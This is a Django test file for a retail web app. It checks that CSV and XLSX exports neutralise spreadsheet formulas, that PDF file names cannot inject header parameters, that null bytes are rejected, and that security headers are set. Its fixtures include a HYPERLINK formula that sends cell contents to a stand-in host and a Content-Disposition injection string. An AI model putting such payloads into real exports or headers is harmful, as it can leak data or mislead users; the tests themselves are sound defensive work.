"""The web surface, hardened (issue 22): exports, the PDF's file name, hostile input, headers."""

from __future__ import annotations

import csv
import io
from email.message import Message

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from magasin.stock.models import Article
from magasin.ventes.entrees import VenteEntree
from magasin.ventes.models import StatutQuarantaine, StatutVente, Vente, VenteQuarantaine
from magasin.ventes.services import vente_creer
from magasin.web.tests.outils import synchroniser

pytestmark = pytest.mark.django_db

FORMULE = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'


def _vente(monde, **extra) -> Vente:  # type: ignore[no-untyped-def]
    entree = VenteEntree.model_validate(
        {
            "lignes": [{"article_id": monde.article.pk, "quantite": 1, "prix_unitaire": str(monde.article.prix_vente)}],
            **extra,
        }
    )
    resultat = vente_creer(boutique=monde.boutique, utilisateur=monde.gerant, entree=entree)
    assert resultat.vente is not None
    return resultat.vente


# --- Exports ---------------------------------------------------------------------------------


def test_export_csv_neutralise_les_formules(monde, client_gerant):
    _vente(monde, numero_facture="@SUM(1+1)", client_nom=FORMULE, client_telephone="+243 81 000 0000")
    reponse = client_gerant.get("/ventes/", {"format": "csv"})
    texte = b"".join(reponse.streaming_content).decode("utf-8-sig")
    (ligne,) = list(csv.reader(io.StringIO(texte), delimiter=";"))[1:]
    assert ligne[0] == "'@SUM(1+1)"
    assert ligne[9] == "'" + FORMULE
    assert ligne[10] == "'+243 81 000 0000"
    # Numbers stay numbers.
    assert ligne[7] == "1250000,00"


def test_export_xlsx_ecrit_le_texte_en_chaine_jamais_en_formule(monde, client_gerant):
    _vente(monde, numero_facture="=1+1", client_nom=FORMULE)
    reponse = client_gerant.get("/ventes/", {"format": "xlsx"})
    feuille = load_workbook(io.BytesIO(b"".join(reponse.streaming_content))).active
    numero, client, montant = feuille["A2"], feuille["J2"], feuille["H2"]
    assert (numero.data_type, numero.value) == ("s", "=1+1")
    assert (client.data_type, client.value) == ("s", FORMULE)
    assert (montant.data_type, montant.value) == ("n", 1250000)


def test_export_xlsx_d_un_nom_de_terminal_avec_caractere_de_controle(monde, client_gerant):
    monde.terminal.nom_terminal = "=Caisse\x01 1"
    monde.terminal.save()
    synchroniser(
        monde.terminal,
        monde.jeton,
        [{"numero_facture": "T-1", "lignes": [{"article_id": monde.article.pk, "quantite": 1, "prix_unitaire": 10}]}],
    )
    reponse = client_gerant.get("/ventes/", {"format": "xlsx"})
    assert reponse.status_code == 200
    cellule = load_workbook(io.BytesIO(b"".join(reponse.streaming_content))).active["C2"]
    assert (cellule.data_type, cellule.value) == ("s", "=Caisse 1")


def test_nom_du_pdf_ne_peut_pas_injecter_de_parametre(monde, client_gerant):
    numero = 'A1"; filename="piege.exe'
    vente = _vente(monde, numero_facture=numero)
    reponse = client_gerant.get(f"/ventes/{vente.pk}/facture.pdf")
    assert reponse.status_code == 200
    entete = Message()
    entete["Content-Disposition"] = reponse["Content-Disposition"]
    assert entete.get_content_disposition() == "attachment"
    assert entete.get_filename() == f"facture-{numero}.pdf"


# --- Hostile input is a 4xx or a form error, never a 500 ----------------------------------------


def test_caractere_nul_dans_les_filtres_texte(monde, client_gerant):
    _vente(monde, numero_facture="F-1")
    reponse = client_gerant.get("/ventes/", {"numero_facture": "F\x00"})
    assert reponse.status_code == 200
    assert "Caractère de contrôle interdit." in reponse.content.decode()
    reponse = client_gerant.get("/ventes/", {"numero_facture": "F\x00", "format": "csv"})
    assert reponse.status_code == 200
    assert "Caractère de contrôle interdit." in reponse.content.decode()  # the page, not an export
    reponse = client_gerant.get("/articles/", {"q": "riz\x00"})
    assert reponse.status_code == 200
    assert "Caractère de contrôle interdit." in reponse.content.decode()
    reponse = client_gerant.get("/ventes/", {"numero_facture": "F" * 201})
    assert "200 caractères au plus." in reponse.content.decode()


def test_caractere_nul_dans_la_recherche_de_facturation(monde, client_caissier):
    reponse = client_caissier.get("/facturation/articles/", {"boutique": monde.boutique.pk, "q": "riz\x00"})
    assert reponse.status_code == 400


def test_identifiant_d_article_ecrit_avec_un_chiffre_unicode(monde, client_caissier):
    reponse = client_caissier.post(
        "/facturation/",
        {
            "boutique": monde.boutique.pk,
            "article_id": ["²", "9" * 40],
            "quantite": ["1", "1"],
            "prix_unitaire": ["10", "10"],
            "mode_paiement": "CASH",
        },
    )
    assert reponse.status_code == 422
    assert reponse.content.decode().count("Article introuvable dans cette boutique.") == 2
    assert not Vente.objects.exists()
    assert client_caissier.get("/facturation/ligne/", {"article": "²"}).status_code == 404


def test_article_importe_avec_un_caractere_nul_refuse_des_l_apercu(monde, client_gerant):
    contenu = b"code;nom;prix_vente\nNUL1;Sucre\x00 1 kg;3500\nNUL\x002;Sel;100\n"
    reponse = client_gerant.post(
        "/articles/import/",
        {"boutique": monde.boutique.pk, "fichier": SimpleUploadedFile("catalogue.csv", contenu)},
    )
    page = reponse.content.decode()
    assert reponse.status_code == 200
    assert "2 en erreur" in page
    assert "Caractère nul interdit" in page
    assert 'name="jeton"' not in page
    assert not Article.objects.filter(code__startswith="NUL").exists()


def test_motif_d_annulation_avec_caractere_nul_ou_trop_long(monde, client_gerant):
    vente = _vente(monde)
    for motif in ["Erreur\x00", "x" * 501]:
        reponse = client_gerant.post(f"/ventes/{vente.pk}/annuler/", {"motif": motif})
        assert reponse.status_code == 400
        vente.refresh_from_db()
        assert vente.statut == StatutVente.VALIDEE
    assert "au plus 500 caractères" in reponse.content.decode()


def test_motif_d_ecart_de_quarantaine_avec_caractere_nul(monde, client_gerant):
    synchroniser(
        monde.terminal,
        monde.jeton,
        [{"numero_facture": "Q-1", "lignes": [{"article_id": 999999, "quantite": 1, "prix_unitaire": 10}]}],
    )
    q = VenteQuarantaine.objects.get(numero_facture="Q-1")
    reponse = client_gerant.post(f"/quarantaine/{q.pk}/ecarter/", {"motif": "Test\x00"})
    assert reponse.status_code == 400
    assert "caractère nul n’est pas autorisé" in reponse.content.decode()
    q.refresh_from_db()
    assert q.statut == StatutQuarantaine.EN_ATTENTE


# --- Headers -------------------------------------------------------------------------------------


def test_csrf_cookie_httponly_et_htmx_porte_le_jeton(monde):
    client = Client(enforce_csrf_checks=True)
    page = client.get("/connexion/")
    assert page.cookies["csrftoken"]["httponly"] is True
    # The token still reaches htmx through the page, not the cookie.
    assert f'"X-CSRFToken": "{page.context["csrf_token"]}"' in page.content.decode()


def test_https_reste_au_choix_de_l_exploitant(monde):
    """Terminals on a shop's LAN post to plain http:// (seed 002): no redirect, and cookies
    usable over http, unless the operator opts in (docs/DEPLOIEMENT.md, section 9)."""
    synchroniser(
        monde.terminal,
        monde.jeton,
        [{"numero_facture": "HTTP-1", "lignes": [{"article_id": monde.article.pk, "quantite": 1, "prix_unitaire": 1}]}],
    )
    page = Client().get("/connexion/")
    assert page.status_code == 200
    assert not page.cookies["csrftoken"]["secure"]
    assert "Strict-Transport-Security" not in page


def _directives(reponse) -> dict[str, str]:  # type: ignore[no-untyped-def]
    politique = reponse["Content-Security-Policy"]
    return {d.split()[0]: d.split(" ", 1)[1] for d in politique.split("; ")}


def test_politique_de_securite_du_contenu_sur_chaque_page(monde, client_gerant, admin_client):
    vente = _vente(monde)
    for client, url in [
        (Client(), "/connexion/"),
        (client_gerant, "/"),
        (client_gerant, "/ventes/"),
        (client_gerant, f"/ventes/{vente.pk}/facture/"),
        (client_gerant, "/terminaux/"),
        (admin_client, "/admin/"),
        (Client(), "/api/v2/simple/terminal/"),
    ]:
        directives = _directives(client.get(url))
        assert directives["script-src"] == "'self'", url
        assert directives["style-src"] == "'self'", url
        assert directives["object-src"] == "'none'", url
        assert directives["frame-ancestors"] == "'none'", url
    page = client_gerant.get("/terminaux/").content.decode()
    for inline in ("onclick=", "onsubmit=", "onchange=", "<script>"):
        assert inline not in page
    assert "data-confirmer=" in page
    assert '"allowEval": false' in client_gerant.get("/").content.decode()


def test_documentation_de_l_api_servie_par_le_site_sans_cdn():
    reponse = Client().get("/api/docs")
    page = reponse.content.decode()
    assert reponse.status_code == 200
    assert "cdn." not in page and "https://" not in page
    assert "/static/ninja/swagger-ui-bundle.js" in page
    directives = _directives(reponse)
    assert directives["script-src"] == "'self'"
    assert Client().get("/static/ninja/swagger-ui-bundle.js").status_code == 200


def test_motif_d_ecart_dans_l_admin_avec_caractere_nul(monde, admin_client):
    synchroniser(
        monde.terminal,
        monde.jeton,
        [{"numero_facture": "Q-2", "lignes": [{"article_id": 999999, "quantite": 1, "prix_unitaire": 10}]}],
    )
    q = VenteQuarantaine.objects.get(numero_facture="Q-2")
    reponse = admin_client.post(
        "/admin/ventes/ventequarantaine/",
        {"action": "ecarter", "_selected_action": [q.pk], "confirmer": "1", "motif": "Test\x00"},
        follow=True,
    )
    assert reponse.status_code == 200
    assert "caractère nul n’est pas autorisé" in reponse.content.decode()
    q.refresh_from_db()
    assert q.statut == StatutQuarantaine.EN_ATTENTE
